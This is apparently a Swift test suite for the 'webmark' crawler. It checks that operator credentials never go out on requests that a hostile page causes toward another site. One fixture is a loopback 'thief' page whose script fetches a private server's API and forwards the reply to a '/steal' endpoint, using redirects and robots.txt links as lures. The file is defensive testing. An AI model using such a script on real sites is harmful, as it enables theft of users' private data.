import Foundation
import Testing
import WebmarkTesting

/// What one site causes at another is without the operator's credentials: Fetch's credentials mode `same-origin`, and
/// cross-site requests without cookies.
@Suite("webmark: credentials of another site", .serialized, .timeLimit(.minutes(15)))
struct CrossSiteCredentialTests {
  private static let secret = "s3cret-Value"

  /// A page whose scripts, frame, license file and robots.txt lead to `private`, and send what they read to the page's server.
  private static func thief(_ `private`: LoopbackSite) throws -> LoopbackSite {
    let target = `private`.url("")
    let site = try LoopbackSite([
      "/robots.txt": .text(
        "User-agent: *\nAllow: /\nSitemap: \(target)/cross.xml\nLicense: \(target)/license.xml\n"
      ),
      "/": .html(
        """
        <!DOCTYPE html><html lang="en"><title>App</title><div id="app"></div>
        <script src="\(target)/script"></script><iframe src="\(target)/frame"></iframe><script>
        fetch("/around").catch(() => 0);
        fetch("\(target)/api").then((a) => a.text()).then((text) => {
          document.title = "stolen " + text; fetch("/steal?" + text);
        });
        </script></html>
        """
      ),
      "/around": .redirect(to: target + "/redirected"),
      "/moved": .redirect(to: target + "/page"),
    ])
    return site
  }

  /// A server that responds to its credentials with a secret, and without them with 401, except for its robots.txt.
  private static func owner() throws -> LoopbackSite {
    let site = try LoopbackSite(
      ["/robots.txt": .text("User-agent: *\nAllow: /\n")],
      address: "127.0.0.2"
    )
    site.answerOthers { request in
      let isKnown = request.headers["authorization"] != nil
      return LoopbackAnswer(
        status: isKnown ? 200 : 401,
        headers: [("Access-Control-Allow-Origin", "*"), ("Content-Type", "text/html")],
        body: isKnown ? "<title>salary of alice</title>" : "who are you?"
      )
    }
    return site
  }

  private static func configuration(_ site: LoopbackSite) -> Data {
    Data("origins:\n  \(site.url("")):\n    token: \(secret)\n    headers: {X-Key: abc}\n".utf8)
  }

  @Test func `another site's requests have none, in a crawl`() async throws {
    let owner = try Self.owner()
    let thief = try Self.thief(owner)
    try await TemporaryFolder.with { folder in
      let seeds = "\(thief.url("/"))\n\(thief.url("/moved"))\n\(owner.url("/own")) owner=alice\n"
      let setting = try CrawlCommandTests.Setting(folder, seeds: seeds)
      try Self.configuration(owner).write(to: folder.appendingPathComponent("network.yaml"))
      let answer = try setting.crawl("--config", "network.yaml", "--allow-private")
      #expect(thief.requests.allSatisfy { !$0.target.contains("salary") }, "\(answer.errors)")
      try #expect(setting.found("salary") == 0)
      for target in [
        "/api", "/script", "/frame", "/redirected", "/license.xml", "/cross.xml",
      ] {
        let seen = owner.requests.filter { $0.target == target }
        #expect(!seen.isEmpty, "\(target)")
        #expect(
          seen.allSatisfy { $0.headers["authorization"] == nil && $0.headers["x-key"] == nil },
          "\(target)"
        )
      }
      #expect(owner.count(of: "/page") == 0)
      let own = try #require(owner.requests.first { $0.target == "/own" })
      #expect(
        own.headers["authorization"] == "Bearer \(Self.secret)" && own.headers["x-key"] != nil
      )
    }
  }

  @Test func `another site's requests have none, in inspect`() async throws {
    let owner = try Self.owner()
    let thief = try Self.thief(owner)
    try await TemporaryFolder.with { folder in
      try Self.configuration(owner).write(to: folder.appendingPathComponent("network.yaml"))
      let words = ["inspect", "--render", thief.url("/"), "--network-config", "network.yaml"]
      let answer = try CommandRunner(in: folder).run(words + ["--allow-private"])
      #expect(!answer.output.contains("salary"), "\(answer.errors)")
      #expect(owner.requests.contains { $0.target == "/api" })
      for request in owner.requests where request.target != "/robots.txt" {
        #expect(request.headers["authorization"] == nil, "\(request.target)")
      }
    }
  }

  /// A page that needs them needs them for its data, too.
  @Test func `a page's own requests have those of the page`() async throws {
    let site = try Self.owner()
    site.set(
      "/",
      .html(
        """
        <!DOCTYPE html><html lang="en"><title>App</title><div id="app"></div><script>
        fetch("/api").then((a) => a.text()).then((text) => { document.body.innerHTML = "<h1>" + text; });
        </script></html>
        """
      )
    )
    try await TemporaryFolder.with { folder in
      let setting = try CrawlCommandTests.Setting(folder, seeds: site.url("/") + "\n")
      try Self.configuration(site).write(to: folder.appendingPathComponent("network.yaml"))
      _ = try setting.crawl("--config", "network.yaml")
      let seen = try #require(site.requests.last { $0.target == "/api" })
      #expect(seen.headers["authorization"] == "Bearer \(Self.secret)")
    }
  }
}
